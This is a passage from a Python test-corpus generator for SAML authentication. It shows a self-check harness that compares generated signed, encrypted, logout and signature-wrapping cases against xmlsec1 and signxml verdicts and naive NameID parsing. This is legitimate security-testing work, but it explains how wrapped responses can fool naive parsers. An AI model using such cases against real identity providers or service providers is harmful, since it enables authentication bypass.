            xml = base64.b64decode(item["saml_response"])
            write(name + ".b64", item["saml_response"].encode())
            plain = None
            if name.startswith("encrypted_"):
                got, why, plain = decrypt_oracle(xml, name)
            elif oracle:
                got, why = oracle_fn(xml, name)
            else:
                got, why = "-", []
                write(name + ".xml", xml)
            extras = extra_checks(name, xml, name_id, key.public_key(), cert_pem, oracle_fn)
            if name.startswith("encrypted_"):
                extras += encrypted_checks(name, xml, plain, name_id, DEFAULT_CANARY, decrypts)
            if name in LOGOUT_CASES:
                extras += logout_checks(name, xml, request, cert_pem)
                extras.append((f"field={item['field']}", item["field"] == LOGOUT_CASES[name][0]))
            ok = (oracle is None or got.rstrip("*") == oracle) and all(p for _, p in extras)
            failures += not ok
            extra_txt = " ".join(f"{label}{'' if p else '=NO'}" for label, p in extras)
            naive = naive_users(plain if plain is not None else xml)  # parsed without network or DTD
            rows.append((name, expect, oracle or "-", got, " / ".join(map(str, naive)), extra_txt, ok, " ".join(why)))

        def row(label, ok, check, expect="-"):
            nonlocal failures
            failures += not ok
            rows.append((label, expect, "-", "-", "-", check + ("" if ok else "=NO"), ok, ""))

        unsolicited = run({**request, "cases": [{"name": "good_assertion_signed", "in_response_to": None}]})[0]
        row("(good_assertion_signed, in_response_to=null)", b"InResponseTo" not in base64.b64decode(unsolicited["saml_response"]),
            "no-InResponseTo", "accept")
        # A requested case without its input is an error, before anything is generated.
        for case, field in [("encrypted_good_gcm", "sp_encryption_cert"), ("logout_request_good", "slo"),
                            ("logout_response_good", "logout_in_response_to")]:
            try:
                run({**request, field: None, "cases": [{"name": "good_assertion_signed"}, {"name": case}]})
                ok = False
            except MissingInput as e:
                ok = field in str(e)
            row(f"({case} without {field})", ok, "MissingInput")
        # Without "cases": every case the inputs allow.
        bare = {k: v for k, v in request.items() if k not in ("cases", "sp_encryption_cert", "slo", "logout_in_response_to")}
        names = [item["name"] for item in run(bare)]
        row("(no cases, no optional inputs)", not any(n.startswith(("encrypted_", "logout_")) for n in names)
            and len(names) == sum(not n.startswith(("encrypted_", "logout_")) for n in CASES), "base-cases-only")

        w = max(len(r[0]) for r in rows)
        print(f"{'case':<{w}}  expect  oracle   xmlsec1  {'naive NameID: first-in-doc / Assertion[1] / Assertion[last]':<62}  result  checks")
        for name, expect, oracle, got, naive, extra_txt, ok, why in rows:
            detail = f"  [{why}]" if not ok and why else ""
            print(f"{name:<{w}}  {expect:<6}  {oracle:<7}  {got:<7}  {naive:<62}  {'ok' if ok else 'MISMATCH':<6}  {extra_txt}{detail}")
        print(
            "\noracle = expected `xmlsec1 --verify` verdict with the pinned IdP key (KeyInfo ignored); '-' = not run"
            " (DOCTYPE/XSLT cases are never fed to a verifier here).\nOK* = xmlsec1 refuses the wrapped document as"
            " a whole (duplicate ID, or content inside ds:Signature); the element carrying the referenced ID, cut out"
            " with its bare Signature, verifies - i.e. the IdP-signed bytes are intact, which is what an"
            " ID-resolving verifier checks.\nencrypted_*: '<xmlsec1 --decrypt with the SP key>/<verify of the signature"
            " that vouches: the Response's, else each signed decrypted Assertion on its own>'; naive NameIDs are read"
            " from the decrypted document."
        )
        print(f"{len(rows) - failures} passed, {failures} failed")
        if keep_dir:
            shutil.copytree(tmp, keep_dir, dirs_exist_ok=True)
            print(f"corpus kept in {keep_dir}")
        return 1 if failures else 0
    finally:
        shutil.rmtree(tmp, ignore_errors=True)


def signxml_accepts(xml, cert_pem):
    """Hardened cross-check for the positive controls: pinned cert, exactly one Reference."""
    try:
        root = etree.fromstring(xml)
        for sig in root.iter(q(DS, "Signature")):
            parent = sig.getparent()
            doc = etree.fromstring(etree.tostring(parent))
            signxml.XMLVerifier().verify(doc, x509_cert=cert_pem, expect_references=1, id_attribute="ID")
        return True
    except Exception as e:  # noqa: BLE001 - any verifier complaint is a failure here
        print(f"signxml: {e}", file=sys.stderr)
        return False


def main():
    if "--list" in sys.argv:
        for name, (expect, _o, _f) in CASES.items():
            print(f"{name}\t{expect}")
        return 0
    if "--self-check" in sys.argv:
        keep = sys.argv[sys.argv.index("--keep") + 1] if "--keep" in sys.argv else None
        return self_check(keep)
    try:
        result = run(json.load(sys.stdin))
    except (KeyError, ValueError, OSError) as e:
        print(f"cases.py: {e}", file=sys.stderr)
        return 2
    json.dump(result, sys.stdout)
    sys.stdout.write("\n")
    return 0


if __name__ == "__main__":
    sys.exit(main())
